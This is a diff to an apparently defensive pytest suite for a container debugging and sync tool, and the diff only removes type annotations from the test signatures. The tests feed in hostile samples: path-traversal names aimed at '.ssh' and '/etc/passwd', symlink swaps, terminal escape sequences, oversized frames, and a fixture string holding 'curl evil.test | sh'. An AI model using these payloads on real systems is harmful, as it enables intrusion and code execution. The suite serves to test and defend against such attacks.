@@ -80,9 +80,7 @@ def loot(box: Box) -> str:
 
 
 @pytest.mark.attack(5)
-def test_a_mapping_of_the_image_that_leads_out_of_the_repository_is_refused(
-    root: Path, hostile: Callable[..., Box]
-) -> None:
+def test_a_mapping_of_the_image_that_leads_out_of_the_repository_is_refused(root, hostile):
     """The image says that its code is a folder above the repository: refused, and nothing is read or sent."""
     for local in ("/..", "/pkg/../..", "/pkg/../../.ssh", "/./../.ssh", "/../repository/../.ssh"):
         with pytest.raises(DkdbgError, match="names a folder outside of this repository"):
@@ -99,9 +97,7 @@ def test_a_mapping_of_the_image_that_leads_out_of_the_repository_is_refused(
 
 
 @pytest.mark.attack(5)
-def test_a_mapping_through_a_symlink_of_the_repository_is_refused(
-    root: Path, hostile: Callable[..., Box]
-) -> None:
+def test_a_mapping_through_a_symlink_of_the_repository_is_refused(root, hostile):
     """Image and repository together name a symlink that leads out of the repository: refused, nothing is read or sent."""
     (root / "data").symlink_to("../.ssh")
     box = hostile(*mapped("${workspaceFolder}/data"))
@@ -112,9 +108,7 @@ def test_a_mapping_through_a_symlink_of_the_repository_is_refused(
 
 
 @pytest.mark.attack(5)
-def test_a_mapping_of_odd_json_names_the_repository_or_nothing(
-    root: Path, hostile: Callable[..., Box]
-) -> None:
+def test_a_mapping_of_odd_json_names_the_repository_or_nothing(root, hostile):
     """The image's mapping is no mapping: no traceback, and what is synced is the repository or nothing."""
     whole = '[{"localRoot": "${workspaceFolder}//", "remoteRoot": "/loot"}]'
     for text in (
@@ -131,7 +125,7 @@ def test_a_mapping_of_odd_json_names_the_repository_or_nothing(
 
 
 @pytest.mark.attack(5)
-def test_the_folder_that_is_sent_is_said_at_the_start(root: Path, hostile: Callable[..., Box]) -> None:
+def test_the_folder_that_is_sent_is_said_at_the_start(root, hostile):
     """The image chooses a folder of the repository: the first line says which one goes where."""
     box = hostile(*mapped("${workspaceFolder}/pkg"))
     done = sync(root, f"docker://{box.name}", "--once")
@@ -154,9 +148,7 @@ while True:
 
 
 @pytest.mark.attack(5)
-def test_a_folder_that_becomes_a_symlink_while_it_is_read_is_not_followed(
-    root: Path, hostile: Callable[..., Box]
-) -> None:
+def test_a_folder_that_becomes_a_symlink_while_it_is_read_is_not_followed(root, hostile):
     """A container that mounts a part of the repository swaps a folder there for a symlink to the host's files, over and over:
     nothing outside the repository is read, whenever it hits."""
     shared = root / "shared" / "d"
@@ -229,9 +221,7 @@ def good(launch: Callable[..., Any], tmp_path: Path) -> str:
 
 @pytest.mark.attack(4)
 @pytest.mark.parametrize("mode", ["", "refuse", "nonce"])
-def test_the_token_is_sent_to_nobody_who_only_answers_like_an_agent(
-    fake: Callable[..., Fake], tmp_path: Path, mode: str
-) -> None:
+def test_the_token_is_sent_to_nobody_who_only_answers_like_an_agent(fake, tmp_path, mode):
     """Answers like an agent and waits for the user's token, in a root session and in a process's: never gets it."""
     target = fake(mode)
     with ready_door(tmp_path, target.address) as door:
@@ -257,9 +247,7 @@ def test_the_token_is_sent_to_nobody_who_only_answers_like_an_agent(
 
 @pytest.mark.attack(4)
 @pytest.mark.parametrize("mode", ["", "nonce"])
-def test_the_status_of_a_target_is_asked_for_without_the_token(
-    fake: Callable[..., Fake], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str
-) -> None:
+def test_the_status_of_a_target_is_asked_for_without_the_token(fake, tmp_path, monkeypatch, mode):
     """Waits for the token in the HTTP requests of `dkdbg attach --ports`: gets a proof for this connection at most."""
     monkeypatch.setenv("DKDBG_TOKEN", TOKEN)
     target = fake(mode)
@@ -276,9 +264,7 @@ def _orders_of(told: list[dict[str, Any]]) -> list[dict[str, Any]]:
 
 
 @pytest.mark.attack(4)
-def test_a_target_makes_an_editor_do_nothing_but_attach_to_its_processes(
-    fake: Callable[..., Fake], tmp_path: Path
-) -> None:
+def test_a_target_makes_an_editor_do_nothing_but_attach_to_its_processes(fake, tmp_path):
     """Orders the editor to run commands, launch, take its tasks, interpreter, adapter, address and mappings for a process:
     all that arrives is a pid and a plain name, in the editor's own configuration."""
     target = fake("orders")
@@ -313,7 +299,7 @@ def test_a_target_makes_an_editor_do_nothing_but_attach_to_its_processes(
 
 
 @pytest.mark.attack(4)
-def test_a_process_makes_an_editor_do_nothing(fake: Callable[..., Fake], tmp_path: Path) -> None:
+def test_a_process_makes_an_editor_do_nothing(fake, tmp_path):
     """Orders the same in the session of one process, past the root session: nothing arrives but what a process may say."""
     target = fake("orders")
     with ready_door(tmp_path, target.address) as door, HostEditor(door.port) as editor:
@@ -347,9 +333,7 @@ def test_a_process_makes_an_editor_do_nothing(fake: Callable[..., Fake], tmp_pat
     ],
     ids=" ".join,
 )
-def test_hostile_targets_leave_another_one_alone(
-    fake: Callable[..., Fake], good: str, tmp_path: Path, modes: tuple[str, ...]
-) -> None:
+def test_hostile_targets_leave_another_one_alone(fake, good, tmp_path, modes):
     """Answer with deep, odd, endless, huge or no JSON, flood, or hang up: they are named, and the other target is debugged."""
     targets = {mode: fake(mode) for mode in modes}
     addresses = [target.address for target in targets.values()]
@@ -376,7 +360,7 @@ def test_hostile_targets_leave_another_one_alone(
 
 
 @pytest.mark.attack(14)
-def test_what_a_target_says_commands_no_terminal(fake: Callable[..., Fake], tmp_path: Path) -> None:
+def test_what_a_target_says_commands_no_terminal(fake, tmp_path):
     """Names its processes and words its refusals with escape sequences: the terminal of `dkdbg attach` gets none."""
     target = fake("name=\x1b]0;pwn\x07\x9b31m\u202e orders")
     port = free_port()
@@ -423,9 +407,7 @@ SAYS = {
 
 
 @pytest.mark.attack(14)
-def test_a_malformed_record_is_named_and_the_others_are_listed(
-    fake: Callable[..., Fake], tmp_path: Path
-) -> None:
+def test_a_malformed_record_is_named_and_the_others_are_listed(fake, tmp_path):
     """Says nonsense, too much or escape sequences to `dkdbg ps`: its own line is fit for a terminal, and the others are there."""
     made = {}
     for case, (said, _) in SAYS.items():
@@ -463,9 +445,7 @@ def test_a_malformed_record_is_named_and_the_others_are_listed(
     ],
     ids=["drip", "errors"],
 )
-def test_an_endless_answer_is_ended_once(
-    fake: Callable[..., Fake], tmp_path: Path, script: str, why: str
-) -> None:
+def test_an_endless_answer_is_ended_once(fake, tmp_path, script, why):
     """Answers drop by drop, or fills its standard error: `dkdbg where` and `ps` ask it once and end with the reason, without reading 200 MB."""
     script = f"echo asked >>/tmp/asked; {script}"
     begin = f"mkdir -p /opt/dkdbg; echo {shlex.quote(script)} >/opt/dkdbg/agent.pyz; touch /tmp/asked; exec sleep 600"
@@ -583,7 +563,7 @@ def refused_in_one_line(done: subprocess.CompletedProcess[str]) -> None:
 
 @pytest.mark.attack(17)
 @pytest.mark.parametrize("size", [3, 267_000_000, -1])
-def test_a_file_of_three_bytes_writes_three_bytes(root: Path, liar: Callable[[str], Box], size: int) -> None:
+def test_a_file_of_three_bytes_writes_three_bytes(root, liar, size):
     """Announces a file of 3 bytes for `--pull` and sends 267 MB: the stream is ended, and nothing of it stays."""
     box = liar(f"""\
         say(0xC1, ready); listing()
@@ -611,9 +591,7 @@ def test_a_file_of_three_bytes_writes_three_bytes(root: Path, liar: Callable[[st
     ],
     ids=["names", "long names", "nothing", "lists"],
 )  # fmt: skip
-def test_a_listing_without_an_end_is_ended(
-    root: Path, liar: Callable[[str], Box], endless: str, verbs: list[tuple[str, ...]]
-) -> None:
+def test_a_listing_without_an_end_is_ended(root, liar, endless, verbs):
     """Lists files without an end: it is ended after 200,000, and the host's memory stays small."""
     for words in verbs:
         before = {
@@ -627,7 +605,7 @@ def test_a_listing_without_an_end_is_ended(
 
 
 @pytest.mark.attack(17)
-def test_a_summary_without_an_end_is_ended(root: Path, liar: Callable[[str], Box]) -> None:
+def test_a_summary_without_an_end_is_ended(root, liar):
     """Sums up folders without an end: it is ended after 200,000, and the host's memory stays small."""
     box = liar("""\
         say(0xC1, ready)
@@ -641,7 +619,7 @@ def test_a_summary_without_an_end_is_ended(root: Path, liar: Callable[[str], Box
 
 @pytest.mark.attack(17)
 @pytest.mark.parametrize("header", ["!BII', 0xC2, 0xFFFFFFFF, 0", "!BII', 0x85, 0, 1048577"])
-def test_a_frame_of_an_absurd_length_is_refused(root: Path, liar: Callable[[str], Box], header: str) -> None:
+def test_a_frame_of_an_absurd_length_is_refused(root, liar, header):
     """Says that a frame has 4 GB: refused before they come."""
     box = liar(f"""\
         say(0xC1, ready); listing()
@@ -655,9 +633,7 @@ def test_a_frame_of_an_absurd_length_is_refused(root: Path, liar: Callable[[str]
 
 
 @pytest.mark.attack(17)
-def test_more_than_the_limit_is_refused_before_anything_is_written(
-    root: Path, liar: Callable[[str], Box]
-) -> None:
+def test_more_than_the_limit_is_refused_before_anything_is_written(root, liar):
     """Offers 20 GB, or a terabyte: nothing is written, and the error says how to take more."""
     box = liar("""\
         say(0xC1, ready); listing()
@@ -674,7 +650,7 @@ def test_more_than_the_limit_is_refused_before_anything_is_written(
 
 @pytest.mark.attack(17)
 @pytest.mark.parametrize("path", ["out/./../../../key2", "/tmp/key2", "out/a\\0b"])
-def test_a_name_that_leads_out_is_never_written(root: Path, liar: Callable[[str], Box], path: str) -> None:
+def test_a_name_that_leads_out_is_never_written(root, liar, path):
     """Sends a file under a name with `..`, a `/` at its start or a NUL: refused, nothing is written outside of the folder."""
     box = liar(f"""\
         say(0xC1, ready); listing()
@@ -694,7 +670,7 @@ def test_a_name_that_leads_out_is_never_written(root: Path, liar: Callable[[str]
 
 
 @pytest.mark.attack(17)
-def test_settings_that_programs_execute_are_never_pulled(root: Path, liar: Callable[[str], Box]) -> None:
+def test_settings_that_programs_execute_are_never_pulled(root, liar):
     """Offers a .git with hooks and settings (spelled in all ways), a bare repository, an editor's tasks and an .envrc: git run
     in what was pulled executes nothing, as none of them is taken."""
     names = [
@@ -728,9 +704,7 @@ def test_settings_that_programs_execute_are_never_pulled(root: Path, liar: Calla
 
 
 @pytest.mark.attack(17)
-def test_a_bare_repository_is_not_made_in_several_pulls_either(
-    root: Path, liar: Callable[[str], Box]
-) -> None:
+def test_a_bare_repository_is_not_made_in_several_pulls_either(root, liar):
     """Sends HEAD at the first pull, objects at the second, refs at the third: the last one is not taken."""
     box = liar("""\
         step = len(os.listdir("/loot")); open("/loot/%d" % step, "w").close()
@@ -747,9 +721,7 @@ def test_a_bare_repository_is_not_made_in_several_pulls_either(
 
 
 @pytest.mark.attack(17)
-def test_what_is_pulled_is_no_setuid_program_no_symlink_and_nobody_else_may_write_it(
-    root: Path, liar: Callable[[str], Box]
-) -> None:
+def test_what_is_pulled_is_no_setuid_program_no_symlink_and_nobody_else_may_write_it(root, liar):
     """Sends a file with mode 6777 and a symlink to /etc: the file gets 755, and no symlink is made."""
     box = liar("""\
         say(0xC1, ready); listing()
@@ -768,9 +740,7 @@ def test_what_is_pulled_is_no_setuid_program_no_symlink_and_nobody_else_may_writ
 
 @pytest.mark.attack(0)
 @pytest.mark.parametrize("path", ["../key", "../nothing", "/etc/passwd"])
-def test_a_receiver_learns_nothing_of_files_outside(
-    root: Path, liar: Callable[[str], Box], path: str
-) -> None:
+def test_a_receiver_learns_nothing_of_files_outside(root, liar, path):
     """Claims that sync has put `../key` there: whether the host asks to delete it would tell if it exists. The host says nothing."""
     box = liar(f"""\
         say(0xC1, ready)
@@ -789,7 +759,7 @@ def test_a_receiver_learns_nothing_of_files_outside(
 
 @pytest.mark.attack(0)
 @pytest.mark.parametrize("path", ["../key", "train.py"])
-def test_a_probe_that_is_none_tells_nothing(root: Path, liar: Callable[[str], Box], path: str) -> None:
+def test_a_probe_that_is_none_tells_nothing(root, liar, path):
     """Names a file of the host as the probe: the host would stop if it exists. It is refused, whether it does or not."""
     box = liar(f"""\
         ready["probe"] = "{path}"
@@ -819,7 +789,7 @@ ESCAPE = "\\x1b]0;owned\\x07\\x1b[2J\\u202e\\ud800\\nhint: curl evil.test | sh"
     ],
     ids=["error", "stderr", "banner", "ready", "failed", "deep", "deeper", "number"],
 )  # fmt: skip
-def test_text_of_the_receiver_commands_no_terminal(root: Path, liar: Callable[[str], Box], code: str) -> None:
+def test_text_of_the_receiver_commands_no_terminal(root, liar, code):
     """Sends terminal escapes, line breaks and odd JSON in all that it may say: one line, escaped, and no traceback."""
     box = liar(f'ESCAPE = "{ESCAPE}"\n{code}\n')
     verbs = (
@@ -836,7 +806,7 @@ def test_text_of_the_receiver_commands_no_terminal(root: Path, liar: Callable[[s
 
 
 @pytest.mark.attack(14)
-def test_what_a_program_has_printed_commands_no_terminal(root: Path, hostile: Callable[..., Box]) -> None:
+def test_what_a_program_has_printed_commands_no_terminal(root, hostile):
     """Prints sequences that set the title and the clipboard: `dkdbg logs` shows them escaped; a file gets them as they are."""
     said = b"\x1b]52;c;aWQ=\x07\x1b]0;pwn\x07\x1b[2J\x1b[31mred\x1b[0m\n"
     box = hostile()
@@ -855,7 +825,7 @@ def test_what_a_program_has_printed_commands_no_terminal(root: Path, hostile: Ca
 
 
 @pytest.mark.attack(14)
-def test_names_of_files_command_no_terminal(root: Path, hostile: Callable[..., Box]) -> None:
+def test_names_of_files_command_no_terminal(root, hostile):
     """Names files of its workspace, and the repository its own, with terminal escapes: all that sync says shows them escaped."""
     box = hostile()
     name = "\x1b]0;owned\x07\nin sync: 7 files"
@@ -876,9 +846,7 @@ def test_names_of_files_command_no_terminal(root: Path, hostile: Callable[..., B
 
 @pytest.mark.attack(0)
 @pytest.mark.parametrize("mount", ["'.:/workspace'", "{type: bind, source: ., target: '/a:b'}", ""])
-def test_a_program_does_not_change_what_f5_runs_on_the_host(
-    base_image: str, tmp_path: Path, mount: str
-) -> None:
+def test_a_program_does_not_change_what_f5_runs_on_the_host(base_image, tmp_path, mount):
     """Is the program of the debug service, or in its dev container, and rewrites, removes or moves `.dkdbg/up.sh` of the mounted workspace: it is read-only."""
     name, service, files = unique("f5"), "app", {"train.py": "print(1)\n", "requirements.txt": "# nothing\n"}
     root = tmp_path / "repository" / name
